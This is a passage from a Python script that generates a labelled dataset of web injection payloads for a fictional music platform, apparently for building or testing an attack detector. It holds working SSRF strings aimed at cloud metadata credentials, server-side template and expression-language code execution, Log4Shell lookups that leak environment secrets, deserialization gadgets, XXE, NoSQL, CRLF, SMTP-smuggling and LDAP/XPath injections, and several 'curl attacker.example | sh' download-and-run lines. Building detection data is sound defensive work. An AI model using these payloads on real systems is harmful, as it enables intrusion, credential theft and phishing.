    return ("sample_browse-dotdot_in_pack",
            f"Samples/{rng.choice(TR_PACK)}/{rng.choice(TR_FOLDER)}/" + "../" * depth
            + rng.choice(TR_TARGET))


# ---------------------------------------------------------------------------
# ssrf: value fetched server-side (cover art, imports, webhooks, feeds)
# ---------------------------------------------------------------------------
SSRF = [
    ("cover_url-aws_imds_creds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("cover_url-aws_imds_userdata", "http://169.254.169.254/latest/user-data"),
    ("import_url-gcp_metadata_token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("webhook-azure_imds", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("cover_url-alibaba_metadata", "http://100.100.100.200/latest/meta-data/"),
    ("feed_url-digitalocean_metadata", "http://169.254.169.254/metadata/v1.json"),
    ("cover_url-imds+decimal_ip", "http://2852039166/latest/meta-data/"),
    ("cover_url-imds+hex_ip", "http://0xA9FEA9FE/latest/meta-data/"),
    ("cover_url-imds+octal_ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("cover_url-imds+mixed_radix_ip", "http://0xa9.254.0251.0xfe/latest/meta-data/"),
    ("cover_url-imds+ipv6_mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("webhook-redis_gopher", "gopher://127.0.0.1:6379/_SET%20cover%20x%0D%0ACONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20c.php%0D%0ASAVE%0D%0A"),
    ("import_url-memcached_dict", "dict://127.0.0.1:11211/stats"),
    ("cover_url-file_scheme", "file:///etc/passwd"),
    ("feed_url-elasticsearch", "http://localhost:9200/_cat/indices?v"),
    ("webhook-docker_api", "http://127.0.0.1:2375/v1.41/containers/json?all=1"),
    ("webhook-consul_kv", "http://127.0.0.1:8500/v1/kv/?recurse"),
    ("import_url-k8s_api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("link_preview-internal_tomcat", "http://10.0.0.5:8080/manager/html"),
    ("link_preview-apache_status", "http://localhost/server-status"),
    ("cover_url-loopback+short_ip", "http://127.1/admin/"),
    ("cover_url-loopback+zero_ip", "http://0/"),
    ("webhook-ipv6_loopback_actuator", "http://[::1]:8080/actuator/env"),
    ("webhook-loopback+ipv6_mapped", "http://[0:0:0:0:0:ffff:127.0.0.1]/admin"),
    ("cover_url-userinfo_confusion", "https://cdn.soundwave.example@127.0.0.1:8080/internal/royalties/export"),
    ("cover_url-fragment_confusion", "http://127.0.0.1:8000#@cdn.soundwave.example/art/cover.jpg"),
    ("cover_url-open_redirect_chain", "https://attacker.example/r?u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("cover_url-dns_rebinding", "http://rebind-127-0-0-1.attacker.example:8080/cover.jpg"),
    ("cover_url-loopback+enclosed_digits", "http://①②⑦.⓪.⓪.①/admin"),
    ("preset_url-java_jar_scheme", "jar:http://attacker.example/pack.zip!/preset.xml"),
    ("preset_url-java_netdoc", "netdoc:///etc/passwd"),
    ("feed_url-router_admin", "http://192.168.1.1/cgi-bin/luci"),
    ("webhook-ecs_task_metadata", "http://169.254.170.2/v2/metadata"),
    ("cover_url-aws_imds_ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("cover_url-oracle_imds", "http://169.254.169.254/opc/v1/instance/"),
    ("webhook-cluster_pprof", "http://royalty-svc.default.svc.cluster.local/debug/pprof/heap"),
    ("cover_url-loopback_host+url", "http://%31%32%37%2e%30%2e%30%2e%31/admin"),
    ("import_url-ssh_port_probe", "http://127.0.0.1:22/"),
    ("webhook-smtp_gopher", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cpayouts%40soundwave.example%3E%0D%0ARCPT%20TO%3A%3Cvictim%40mail.example%3E%0D%0ADATA%0D%0ASubject%3A%20Update%20bank%20details%0D%0A%0D%0Ahttps%3A%2F%2Fattacker.example%2F%0D%0A.%0D%0AQUIT%0D%0A"),
    ("webhook-internal_post_gopher", "gopher://10.0.0.8:80/_POST%20/admin/reindex%20HTTP/1.1%0D%0AHost%3A%2010.0.0.8%0D%0AContent-Length%3A%200%0D%0A%0D%0A"),
    ("release_json-artwork_url_imds", "{\"title\": \"Nuit Blanche\", \"artwork_url\": \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\"}"),
    ("oembed-nested_url_loopback", "https://soundcloud.example/oembed?format=json&url=http://127.0.0.1:8080/admin"),
    ("cover_url-unspecified_ipv6_redis", "http://[::]:6379/"),
    ("webhook-all_zero_ip", "http://0.0.0.0:5000/admin"),
    ("cover_url-smb_share+unc_path", "\\\\203.0.113.7\\share\\cover.jpg"),
    ("cover_url-loopback+decimal_ip", "http://2130706433:8080/"),
    ("cover_url-loopback+octal_ip", "http://017700000001/"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-imds_root", "http://169.254.169.254/"),
    ("plain-localhost_admin", "http://localhost:8080/admin"),
]

SS_TARGET = [((169, 254, 169, 254), "/latest/meta-data/iam/security-credentials/", "imds"),
             ((127, 0, 0, 1), ":8080/admin/royalties", "loopback"),
             ((10, 0, 0, 12), ":9200/_search?q=*", "internal")]
SS_FIELD = ["import_url", "webhook", "feed_url", "sample_pack_url"]


def tpl_ssrf(rng):
    octets, path, what = rng.choice(SS_TARGET)
    n = (octets[0] << 24) | (octets[1] << 16) | (octets[2] << 8) | octets[3]
    form = rng.randrange(3)
    if form == 0:
        host, enc = str(n), "decimal_ip"
    elif form == 1:
        host, enc = hex(n), "hex_ip"
    else:
        host, enc = ".".join("0%o" % o for o in octets), "octal_ip"
    return f"{rng.choice(SS_FIELD)}-{what}+{enc}", f"http://{host}{path}"


# ---------------------------------------------------------------------------
# code: SSTI, expression languages, Log4Shell lookups, deserialization, XXE,
#       prototype pollution, CSV formulas
# ---------------------------------------------------------------------------
CODE = [
    ("presskit_jinja2-cycler_globals", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("bio_jinja2-request_builtins", "Ana Ruiz {{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("liner_jinja2-subclasses_loop", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("title_jinja2-config_leak", "Night Drive {{ config.items() }}"),
    ("bio_jinja2-attr_filter+hex_escape", "{{ (request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['\\x5f\\x5fbuiltins\\x5f\\x5f']['\\x5f\\x5fimport\\x5f\\x5f']('os').popen('id').read() }}"),
    ("presskit_twig-filter_system", "{{ ['id'] | filter('system') }}"),
    ("newsletter_freemarker-execute", "<#assign ex = \"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("email_velocity-runtime_exec", "#set($s = \"\")#set($rt = $s.getClass().forName(\"java.lang.Runtime\").getRuntime())$rt.exec(\"id\")"),
    ("liner_erb-backticks", "<%= `id` %>"),
    ("liner_erb-system", "Recorded live <%= system('curl -s http://attacker.example/e | sh') %>"),
    ("presskit_thymeleaf-preprocessed_spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("bio_smarty-system", "{system('id')}"),
    ("bio_mako-module_os", "${self.module.cache.util.os.system('id')}"),
    ("title_tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("bio_pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("notes_ejs-exec", "<%= process.mainModule.require('child_process').execSync('id').toString() %>"),
    ("setlist_nunjucks-range_constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("bio_razor-process_start", "@System.Diagnostics.Process.Start(\"cmd.exe\", \"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt\")"),
    ("bio_django-settings_leak", "{{ settings.SECRET_KEY }}"),
    ("liner_jinja2-lipsum_globals", "{{ lipsum.__globals__['os'].popen('curl -s http://attacker.example/j | sh').read() }}"),
    ("bio_jinja2-attr_chain_subclasses", "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}"),
    ("preset_spel-runtime_exec", "#{T(java.lang.Runtime).getRuntime().exec('curl http://attacker.example/s')}"),
    ("search_ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("filter_mvel-runtime", "java.lang.Runtime.getRuntime().exec(\"id\");"),
    ("title_java_el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("bpm_expr-python_eval", "__import__('os').popen('id').read()"),
    ("automation_formula-node_eval", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("gain_expr-python_eval_arith", "120 + 0*__import__('os').system('id')"),
    ("curve_expr-ruby_eval", "120 + `id`.length"),
    ("tempo_expr-php_eval", "system('id') + 120"),
    ("note_expr-js_function_constructor", "Function('return process')().mainModule.require('child_process').execSync('id')"),
    ("title_log4j-jndi_ldap", "Night Drive ${jndi:ldap://attacker.example:1389/t}"),
    ("useragent_log4j-jndi_rmi", "${jndi:rmi://203.0.113.9:1099/obj}"),
    ("isrc_log4j-jndi+lower_lookup", "${${lower:j}${lower:n}di:ldap://attacker.example/a}"),
    ("artist_log4j-jndi+default_value_lookup", "${${::-j}${::-n}${::-d}${::-i}:dns://attacker.example/b}"),
    ("comment_log4j-env_exfil", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/x}"),
    ("search_log4j-jndi+env_default_lookup", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://attacker.example/c}"),
    ("stem_log4j-sys_property_dns", "${jndi:dns://${sys:java.version}.attacker.example}"),
    ("lyrics_log4j-jndi+lower_protocol", "${jndi:${lower:L}${lower:D}${lower:A}${lower:P}://198.51.100.14/z}"),
    ("label_log4j-jndi+url", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fu%7D"),
    ("preset_upload-pickle+base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("session_file-pickle_protocol0", "cos\nsystem\n(S'curl -s http://attacker.example/p | sh'\ntR."),
    ("preset_yaml-python_apply", "name: Dusty Keys\ncutoff: !!python/object/apply:os.system [\"id\"]"),
    ("preset_yaml-subprocess", "!!python/object/apply:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]"),
    ("playlist_php-serialized_object", "O:8:\"Playlist\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("preset_json-fastjson_jdbcrowset", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/Exploit\",\"autoCommit\":true}"),
    ("preset_json-jackson_logback_h2", "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\", {\"url\":\"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://attacker.example/inject.sql'\"}]"),
    ("preset_json-dotnet_typenamehandling", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd.exe\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("profile_cookie-node_serialize", "{\"theme\":\"_$$ND_FUNC$$_function(){require('child_process').exec('curl attacker.example/n | sh')}()\"}"),
    ("session_json-jsonpickle_reduce", "{\"py/reduce\": [{\"py/function\": \"os.system\"}, {\"py/tuple\": [\"id\"]}]}"),
    ("musicxml-xxe_file", "<?xml version=\"1.0\"?>\n<!DOCTYPE score-partwise [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<score-partwise version=\"4.0\"><work><work-title>&x;</work-title></work></score-partwise>"),
    ("ddex_ern-xxe_oob_parameter", "<?xml version=\"1.0\"?>\n<!DOCTYPE NewReleaseMessage [<!ENTITY % d SYSTEM \"http://attacker.example/ern.dtd\"> %d;]>\n<NewReleaseMessage><ReleaseList><Release><ReferenceTitle><TitleText>Nuit Blanche</TitleText></ReferenceTitle></Release></ReleaseList></NewReleaseMessage>"),
    ("cover_svg-xxe_entity", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"3000\" height=\"3000\"><text x=\"10\" y=\"40\">&h;</text></svg>"),
    ("ddex_ern-xinclude", "<TitleText xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></TitleText>"),
    ("musicxml-xxe_php_filter", "<!DOCTYPE score-partwise [<!ENTITY s SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><score-partwise><movement-title>&s;</movement-title></score-partwise>"),
    ("playlist_xspf-xxe_ssrf", "<?xml version=\"1.0\"?><!DOCTYPE playlist [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><playlist version=\"1\" xmlns=\"http://xspf.org/ns/0/\"><title>&m;</title></playlist>"),
    ("feed_rss-entity_expansion", "<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">]><rss><channel><title>&g;</title></channel></rss>"),
    ("preset_json-proto_admin", "{\"name\": \"Dusty Keys\", \"__proto__\": {\"isAdmin\": true}}"),
    ("profile_json-constructor_prototype", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("preset_query-proto_bracket_gadget", "preset[__proto__][shell]=/proc/self/exe&preset[__proto__][argv0]=console.log(require('child_process').execSync('id').toString())//"),
    ("settings_json-proto_ejs_gadget", "{\"__proto__\": {\"outputFunctionName\": \"x;process.mainModule.require('child_process').execSync('curl attacker.example/pp | sh');x\"}}"),
    ("settings_path-proto_dotted", "__proto__.isVerifiedArtist=true"),
    ("preset_json-proto+unicode_escape", "{\"\\u005f\\u005fproto\\u005f\\u005f\": {\"canPublish\": true}}"),
    ("split_csv-hyperlink_exfil", "=HYPERLINK(\"https://attacker.example/s?d=\"&A2&B2,\"View statement\")"),
    ("split_csv-dde_cmd", "=cmd|'/c powershell -nop -w hidden -c iwr attacker.example/p.ps1|iex'!A1"),
    ("split_csv-plus_dde", "+1+cmd|'/C notepad'!Z9"),
    ("split_csv-minus_dde", "-2+3+cmd|'/C calc'!A0"),
    ("split_csv-at_sum_dde", "@SUM(1+9)*cmd|'/C calc'!A0"),
    ("split_csv-webservice", "=WEBSERVICE(\"https://attacker.example/?x=\"&ENCODEURL(C5))"),
    ("split_csv-importxml_sheets", "=IMPORTXML(CONCAT(\"https://attacker.example/?d=\",A1:C9),\"//a\")"),
    ("split_csv-image_beacon", "=IMAGE(\"https://attacker.example/p.png?\"&A2)"),
    ("split_csv-row_with_formula", "Ana Ruiz,ASCAP,=HYPERLINK(\"https://attacker.example/claim?iban=\"&D2,\"Claim royalties\"),50%"),
    ("plain-log4j_jndi", "${jndi:ldap://attacker.example/a}"),
    ("plain-jinja2_os_popen", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("plain-spel_runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("plain-proto_pollution", "{\"__proto__\":{\"admin\":true}}"),
    ("plain-csv_formula", "=1+2+cmd|' /C calc'!A0"),
    ("plain-xxe_passwd", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
]

CO_FIELD = ["title", "artist", "isrc", "stem", "comment", "label"]
CO_TEXT = ["Night Drive (Extended Mix)", "Ana Ruiz", "GB-XY1-24-00123", "04_Bass_DI.wav",
           "great mix!", "Night Owl Records"]
CO_JNDI = ["ldap://attacker.example:1389/", "rmi://203.0.113.31:1099/", "dns://attacker.example/",
           "ldaps://log.attacker.example/"]
CO_SPLIT_WHO = ["Ana Ruiz", "J. O'Brien", "Night Owl Publishing", "Kofi Mensah"]


def tpl_code(rng):
    if rng.randrange(2) == 0:
        i = rng.randrange(len(CO_FIELD))
        return (f"{CO_FIELD[i]}_log4j-jndi_lookup",
                f"{CO_TEXT[i]} ${{jndi:{rng.choice(CO_JNDI)}{rng.choice(['a', 'x', 'ref', 'cb'])}{rng.randrange(10, 99)}}}")
    who = rng.choice(CO_SPLIT_WHO)
    return ("split_csv-hyperlink_exfil",
            f"=HYPERLINK(\"https://attacker.example/r?s=\"&C{rng.randrange(2, 40)},\"{who} – statement\")")


# ---------------------------------------------------------------------------
# nosqli: value merged into a MongoDB / CouchDB query
# ---------------------------------------------------------------------------
NOSQLI = [
    ("isrc_lookup-ne_null", "{\"isrc\": {\"$ne\": null}}"),
    ("track_filter-where_sleep", "{\"artist\": \"Ana Ruiz\", \"$where\": \"sleep(5000) || true\"}"),
    ("track_filter-regex_ne", "{\"title\": {\"$regex\": \"^.*\"}, \"owner\": {\"$ne\": \"me\"}}"),
    ("login_json-gt_empty", "{\"username\": \"admin\", \"password\": {\"$gt\": \"\"}}"),
    ("login_form-ne_brackets", "username=admin&password[$ne]=x"),
    ("login_form-regex_blind", "username=admin&password[$regex]=^\\$2b\\$10\\$a"),
    ("where_string-quote_breakout", "Night Drive'; return this.role == 'admin'; var z='"),
    ("where_string-or_true", "' || '1'=='1"),
    ("release_filter-or_private", "{\"$or\": [{\"private\": false}, {\"private\": true}]}"),
    ("track_filter-expr_function", "{\"$expr\": {\"$function\": {\"body\": \"function() { sleep(3000); return true; }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("stats_pipeline-lookup_users", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner_id\", \"foreignField\": \"_id\", \"as\": \"u\"}}, {\"$project\": {\"u.password_hash\": 1, \"u.email\": 1}}]"),
    ("payout_filter-where_blind", "{\"$where\": \"this.payout_iban && this.payout_iban.charAt(0) == 'G'\"}"),
    ("isrc_form-nin_brackets", "isrc[$nin][]=x"),
    ("title_form-regex_options", "title[$regex]=.*&title[$options]=si"),
    ("couchdb_find-gt_null_selector", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"_id\", \"email\", \"password\"]}"),
    ("login_form-ne_brackets+url", "username=admin&password%5B%24ne%5D=1"),
    ("login_json-ne_null+unicode_escape", "{\"username\": \"admin\", \"password\": {\"\\u0024ne\": null}}"),
    ("royalty_filter-type_probe", "{\"share\": {\"$type\": 2}, \"owner\": {\"$exists\": true}}"),
    ("where_string-dos_loop", "'; while(true){}; var x='"),
    ("email_reset-regex_wildcard", "{\"email\": {\"$regex\": \".*@nightowl-records\\\\.example\"}}"),
    ("playlist_update-set_owner", "{\"$set\": {\"owner_id\": \"attacker\", \"role\": \"admin\"}}"),
    ("login_form-gt_empty_brackets", "email[$gt]=&password[$gt]="),
    ("plain-ne_object", "{\"$ne\": null}"),
    ("plain-where_true", "{\"$where\": \"1 == 1\"}"),
    ("plain-gt_empty", "{\"$gt\": \"\"}"),
]

NO_ISRC = ["GB-XY1-24-00123", "US-A7Q-23-00456", "DE-K2D-22-00007", "FR-M4Z-24-00311"]


def tpl_nosqli(rng):
    return ("isrc_lookup-where_sleep",
            f"{{\"isrc\": \"{rng.choice(NO_ISRC)}\", \"$where\": \"sleep({rng.randrange(3, 9) * 1000}) || true\"}}")


# ---------------------------------------------------------------------------
# crlf: header / log / mail injection
# ---------------------------------------------------------------------------
CRLF = [
    ("presave_redirect-set_cookie+url", "https://soundwave.example/presave%0d%0aSet-Cookie:%20session=attacker-fixed-session"),
    ("presave_redirect-location+url", "/r/nuit-blanche%0d%0aLocation:%20https://attacker.example/login"),
    ("presave_redirect-response_split+url", "/r/x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0aContent-Length:%2039%0d%0a%0d%0a<script>alert(document.domain)</script>"),
    ("download_filename-header_injection", "Night Drive.wav\"\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>"),
    ("upload_log-log_forging", "stems.zip uploaded\n2024-06-01T12:00:00Z INFO user=admin action=payout_account_changed status=ok"),
    ("title_log-fake_auth_entry", "Paper Boats\r\n[2024-06-01 10:22:13] AUTH success user=admin ip=10.0.0.2"),
    ("contact_artist-bcc_injection", "fan@mail.example\r\nBcc: everyone@attacker.example"),
    ("booking_subject-cc_and_body", "Booking request\r\nCc: list@attacker.example\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/invoice\">Invoice</a>"),
    ("message_body-smtp_smuggling", "Hi!\r\n.\r\nMAIL FROM:<payouts@soundwave.example>\r\nRCPT TO:<victim@mail.example>\r\nDATA\r\nSubject: Royalty payment update\r\n\r\nPlease confirm your bank details at https://attacker.example/\r\n.\r\n"),
    ("lang_cookie-set_cookie+url2", "fr%250d%250aSet-Cookie:%20role=admin"),
    ("presave_redirect-set_cookie+utf8_truncation", "/r/x%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
    ("download_path-lf_accel_redirect+url", "masters/NOR-045.zip%0aX-Accel-Redirect:%20/internal/royalties.csv"),
    ("download_filename-raw_accel_redirect", "Nuit Blanche.zip\r\nX-Accel-Redirect: /protected/masters/"),
    ("lang_cookie-role_cookie+url", "fr%0d%0aSet-Cookie:%20role=admin;%20Path=/"),
    ("json_log-field_injection", "Paper Boats\",\"level\":\"info\",\"msg\":\"payout approved\",\"user\":\"admin"),
    ("log_viewer-ansi_escape", "Glasshouse\u001b[2J\u001b[1;1H2024-06-01 09:00:00 INFO all payouts verified"),
    ("webhook_url-request_splitting", "http://203.0.113.9/hook HTTP/1.1\r\nHost: internal-api\r\n\r\nPOST /admin/users HTTP/1.1\r\nHost: internal-api\r\nContent-Length: 0\r\n\r\n"),
    ("icy_metadata-header_injection", "Night Drive\r\nicy-url: https://attacker.example/\r\nLocation: https://attacker.example/"),
    ("reply_name-reply_to_injection", "\"Ana Ruiz\"\nReply-To: payouts@attacker.example"),
    ("access_log-forged_line+url", "Night%20Drive%0a127.0.0.1%20-%20admin%20[01/Jun/2024:10:00:00%20+0000]%20%22GET%20/admin/payouts%20HTTP/1.1%22%20200%20512"),
    ("proxy_header-xff_injection+url", "Low%0D%0AX-Forwarded-For:%20127.0.0.1"),
    ("share_link-cr_refresh+url", "/t/42%0dRefresh:%200;url=https://attacker.example/"),
    ("mail_subject-newline_to", "New mix ready\nTo: all-artists@attacker.example"),
    ("split_export-row_injection", "Paper Boats\nGB-XY1-24-99999,Attacker,100%"),
    ("syslog-priority_forging", "Low Tide\n<13>Jun  1 10:00:00 royalty-svc payouts: transfer approved by admin"),
    ("redirect_slug-lf_location", "nuit-blanche\nLocation: https://attacker.example/"),
    ("plain-set_cookie+url", "%0d%0aSet-Cookie:%20crlf=injected"),
    ("plain-raw_header", "\r\nX-Injected: 1"),
    ("plain-lf_log_line", "\nINFO admin logged in"),
]

CR_TITLE = ["Night Drive", "Paper Boats", "Golden Hour", "Second Wind", "Low Tide"]


def tpl_crlf(rng):
    t = rng.choice(CR_TITLE)
    return ("upload_log-log_forging",
            f"{t}.wav\n2024-0{rng.randrange(1, 10)}-{rng.randrange(10, 28)}T0{rng.randrange(0, 10)}:00:00Z "
            f"INFO royalty payout approved by=admin amount={rng.randrange(1000, 9999)}.00")


# ---------------------------------------------------------------------------
# ldap-xpath: value put into an LDAP filter or an XPath expression
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("staff_directory-ldap_wildcard_close", "*)(uid=*))(|(uid=*"),
    ("sso_login-ldap_and_true", "admin)(&)"),
    ("staff_directory-ldap_or_objectclass", "*)(|(objectClass=*)"),
    ("rights_holder-ldap_password_attr", "jdoe)(|(userPassword=*)"),
    ("staff_directory-ldap_blind_prefix", "ana*)(userPassword=a*"),
    ("sso_login-ldap_or_uid+null_byte", "admin)(|(uid=*))%00"),
    ("label_group-ldap_memberof", "Ana Ruiz)(memberOf=cn=admins,ou=groups,dc=label,dc=example"),
    ("staff_directory-ldap_or_cn+url", "%2a%29%28%7c%28cn%3d%2a%29"),
    ("staff_directory-ldap_description_probe", "*)(description=*payout*"),
    ("contact_lookup-ldap_mail_enum", "x)(|(cn=*)(mail=*@nightowl-records.example)"),
    ("ddex_isrc-xpath_tautology", "GB-XY1-24-00123' or '1'='1"),
    ("ddex_title-xpath_union", "'] | //Deal | //*['"),
    ("ddex_title-xpath_count_probe", "x' or count(//User)>0 or 'a'='b"),
    ("ddex_title-xpath_substring_blind", "x' or substring(//User[1]/Password,1,1)='a"),
    ("ddex_title-xpath_string_length", "x' or string-length(//ApiKey)=32 or 'a'='b"),
    ("musicxml_query-xpath_paren_breakout", "Nuit Blanche') or ('1'='1"),
    ("track_position-xpath_numeric", "1 or 1=1"),
    ("ddex_title-xpath_doc_available_oob", "x' or doc-available(concat('http://attacker.example/?',//User[1]/Password)) or 'a'='b"),
    ("ddex_title-xpath_iban_search", "x']/..//*[contains(.,'IBAN') or 'a'='"),
    ("ddex_deal-xpath_local_name", "' and //*[local-name()='Password']/text()!='' and 'a'='a"),
    ("plain-ldap_objectclass_close", "*)(objectClass=*))(&(objectClass=void"),
    ("plain-xpath_or", "' or 1=1 or ''='"),
]


def tpl_ldap_xpath(rng):
    who = rng.choice(["ana.ruiz", "k.mensah", "j.obrien", "l.moreau"])
    return "staff_directory-ldap_or_uid", f"{who})(|(uid=*"


CATEGORIES = [
    ("sqli", SQLI, tpl_sqli, "union/boolean/time/error/stacked/OOB over MySQL, PostgreSQL, MSSQL, Oracle, SQLite; INSERT/UPDATE/ORDER BY/LIMIT/IN contexts"),
    ("xss", XSS, tpl_xss, "tags + event handlers, attribute/JS-string/template-literal breakouts, javascript: URLs, markdown, SVG, mXSS, CSTI"),
    ("cmdi", CMDI, tpl_cmdi, "separators, substitution, quoting breakouts, argument injection (yt-dlp, curl, tar, zip, git), LaTeX/LilyPond, Windows"),
    ("traversal", TRAVERSAL, tpl_traversal, "../ and ..\\, nested/stripped, absolute, proc/secrets, zip slip, php://filter, encodings"),
    ("ssrf", SSRF, tpl_ssrf, "cloud metadata, internal services, gopher/dict/file/jar/netdoc, alt IP forms, parser confusion, redirects, UNC"),
    ("code", CODE, tpl_code, "SSTI (Jinja2, Twig, Freemarker, Velocity, ERB, Thymeleaf, Smarty, Mako, Tornado, Pug, EJS, Nunjucks, Razor), EL/eval, Log4Shell, deserialization, XXE, prototype pollution, CSV formulas"),
    ("nosqli", NOSQLI, tpl_nosqli, "Mongo operators in JSON and bracket forms, $where/$function JS, aggregation $lookup, CouchDB selectors"),
    ("crlf", CRLF, tpl_crlf, "response splitting, header/cookie injection, X-Accel-Redirect, mail header + SMTP smuggling, log/JSON-log/syslog forging"),
    ("ldap-xpath", LDAP_XPATH, tpl_ldap_xpath, "LDAP filter breakouts and blind probes; XPath tautology/union/blind/OOB over DDEX and MusicXML"),
]


def build():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = []
    for name, literals, template, _what in CATEGORIES:
        quota = QUOTA[name]
        items = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {name}: {v!r}")
            seen.add(v)
            items.append((cls, v))
        n_lit = len(items)
        if n_lit > quota:
            raise SystemExit(f"{name}: {n_lit} literals exceed quota {quota}")
        tries = 0
        while len(items) < quota:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"template for {name} cannot produce enough unique values")
            cls, v = template(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
        stats.append((name, len(items), n_lit))
        for cls, v in items:
            rows.append({"category": name, "class": cls, "value": v})
    return rows, stats


def main():
    rows, stats = build()
    out = []
    for i, row in enumerate(rows, 1):
        v = row["value"]
        if not isinstance(v, str) or not v or len(v) > 1800:
            raise SystemExit(f"bad value: {v!r}")
        out.append({"id": f"{PREFIX}-{i:05d}", "category": row["category"],
                    "class": row["class"], "label": "attack", "value": v})
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for obj in out:
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
    total_lit = 0
    n_plain = sum(1 for o in out if o["class"].startswith("plain-"))
    n_enc = sum(1 for o in out if "+" in o["class"])
    for name, n, n_lit in stats:
        total_lit += n_lit
        print(f"{name:12s} {n:4d}  literals {n_lit:3d} ({100 * n_lit / n:.0f}%)")
    print(f"{'total':12s} {len(out):4d}  literals {total_lit:3d} ({100 * total_lit / len(out):.0f}%)"
          f"  plain {n_plain}  encoded {n_enc}")


if __name__ == "__main__":
    main()
